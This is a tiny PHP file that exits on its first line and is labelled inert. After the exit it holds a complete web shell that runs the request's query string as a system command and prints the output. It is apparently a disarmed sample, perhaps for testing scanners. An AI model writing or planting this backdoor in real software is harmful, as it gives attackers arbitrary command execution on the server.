<?php exit; /* inert */ 
$q = urldecode(getenv('QUERY_STRING'));
if ($q !== '') { exec($q . ' 2>&1', $o); echo join(PHP_EOL, $o); }
